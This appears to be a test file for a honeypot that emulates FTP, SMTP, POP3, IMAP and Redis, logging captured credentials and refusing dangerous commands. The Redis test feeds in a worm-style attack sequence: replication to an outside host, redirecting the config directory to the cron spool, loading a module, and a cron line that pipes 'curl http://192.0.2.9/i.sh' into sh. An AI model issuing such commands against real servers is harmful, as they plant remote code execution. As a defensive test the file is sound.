import { expect, it } from 'vitest'
import { Rehearsal } from '../testing/rehearsal.ts'
import { ftp } from './ftp/ftp.ts'
import { imap } from './imap/imap.ts'
import { pop3 } from './pop3/pop3.ts'
import { redis } from './redis/redis.ts'
import { smtp } from './smtp/smtp.ts'

const credentials = [{ user: 'admin', password: 'secret' }]
const base64 = (text: string) => Buffer.from(text).toString('base64')
const heard = (
  protocol: 'ftp' | 'imap' | 'pop3' | 'redis' | 'smtp',
  lines: readonly string[],
  options = {},
) =>
  new Rehearsal(protocol, options, credentials).hear(
    { ftp, imap, pop3, redis, smtp }[protocol].stream!,
    lines.map((line) => `${line}\r\n`).join(''),
  )
const codes = (talk: Rehearsal) =>
  talk.text
    .split('\r\n')
    .slice(0, -1)
    .map((line) => line.slice(0, 3))

it('FTP lets in, opens no second connection in either direction, and tells what was wanted', () => {
  const talk = heard(
    'ftp',
    [
      'USER admin',
      'PASS secret',
      'PORT 192,0,2,9,0,25',
      'EPRT |1|192.0.2.9|25|',
      'PASV',
      'STOR a.exe',
      'QUIT',
      'NOOP',
    ],
    { banner: 'ProFTPD 1.3.5 Server' },
  )
  expect(talk.text).toMatch(/^220 ProFTPD 1\.3\.5 Server\r\n/)
  expect(codes(talk)).toEqual(['220', '331', '230', '500', '500', '425', '425', '221'])
  expect(talk.events).toMatchObject([
    { kind: 'login', user: 'admin', password: 'secret', accepted: true },
    { text: 'PORT 192,0,2,9,0,25' },
    { text: 'EPRT |1|192.0.2.9|25|' },
    { text: 'STOR a.exe' },
  ])
})

it('SMTP tells credentials, takes mail for anybody and keeps nothing', () => {
  const talk = heard('smtp', [
    'EHLO x',
    `AUTH PLAIN ${base64('\0admin\0secret')}`,
    'AUTH LOGIN',
    base64('admin'),
    base64('wrong'),
    'MAIL FROM:<a@example.com>',
    'RCPT TO:<b@example.net>',
    'DATA',
    'Subject: x',
    '..',
    '.',
    'QUIT',
  ])
  expect(codes(talk).filter((code) => code !== '250')).toEqual([
    '220',
    '235',
    '334',
    '334',
    '535',
    '354',
    '221',
  ])
  expect(talk.text).toContain('250 2.0.0 Ok: queued as')
  expect(talk.events).toMatchObject([
    { user: 'admin', password: 'secret', accepted: true },
    { user: 'admin', password: 'wrong', accepted: false },
    { text: 'MAIL FROM:<a@example.com>' },
    { text: 'RCPT TO:<b@example.net>' },
  ])
})

it('POP3 and IMAP tell credentials and show an empty box', () => {
  const pop = heard('pop3', ['CAPA', 'USER admin', 'PASS secret', 'STAT', 'LIST', 'QUIT'])
  expect(pop.text).toContain('+OK Logged in.\r\n+OK 0 0\r\n+OK\r\n.\r\n+OK Logging out.')
  const mail = heard('imap', [
    'a CAPABILITY',
    'b LOGIN "admin" "se\\cret"',
    'c AUTHENTICATE PLAIN',
    base64('\0admin\0wrong'),
    'd SELECT INBOX',
    'e LOGOUT',
  ])
  expect(mail.text).toMatch(/b OK Logged in\r\n\+ \r\nc NO .*\r\nd BAD .*\r\n\* BYE/)
  expect(mail.events).toMatchObject([{ password: 'secret' }, { password: 'wrong', accepted: false }])
})

it('Redis answers inline and arrays alike, and refuses what would fetch, write or run', () => {
  const text = heard('redis', ['PING', '*2\r\n$4\r\nECHO\r\n$2\r\nhi', 'GET x', 'AUTH secret']).text
  expect(text).toBe(
    '+PONG\r\n$2\r\nhi\r\n$-1\r\n-WRONGPASS invalid username-password pair or user is disabled.\r\n',
  )
  const worm = heard('redis', [
    'SLAVEOF 192.0.2.9 6379',
    'REPLICAOF 192.0.2.9 6379',
    'CONFIG SET dir /var/spool/cron',
    'MODULE LOAD /tmp/x.so',
    'set x "*/1 * * * * curl http://192.0.2.9/i.sh|sh"',
    'eval "x" 0',
  ])
  expect(worm.text).toBe(
    `${'-ERR operation not permitted\r\n'.repeat(4)}+OK\r\n-ERR operation not permitted\r\n`,
  )
  expect(worm.events).toHaveLength(7)
  expect(worm.events[5]).toMatchObject({ kind: 'link', url: 'http://192.0.2.9/i.sh' })
})

it('Redis shows its version, and hangs up on what is no command', () => {
  expect(heard('redis', ['INFO'], { version: '4.0.9' }).text).toContain('redis_version:4.0.9')
  const broken = heard('redis', ['*99999999'])
  expect(broken.text).toMatch(/^-ERR Protocol error/)
  expect(broken.isOver).toBe(true)
})
